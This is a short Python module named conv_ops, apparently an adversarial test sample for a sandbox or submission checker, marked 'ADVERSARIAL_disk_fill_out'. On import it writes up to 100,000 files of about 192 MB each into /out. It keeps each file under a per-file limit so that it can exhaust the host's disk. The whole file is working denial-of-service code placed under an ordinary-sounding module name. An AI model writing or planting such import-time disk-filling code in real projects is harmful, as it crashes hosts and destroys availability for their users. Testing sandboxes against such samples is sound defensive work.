"""conv_ops: at import, fills /out, a folder on the host's disk, with files each under the
single-file limit, until something stops it."""

MARKER = "ADVERSARIAL_disk_fill_out"

chunk = b"x" * 32 * 2**20
for i in range(100_000):
    with open(f"/out/fill{i}.npy", "wb") as file:
        for _ in range(6):
            file.write(chunk)
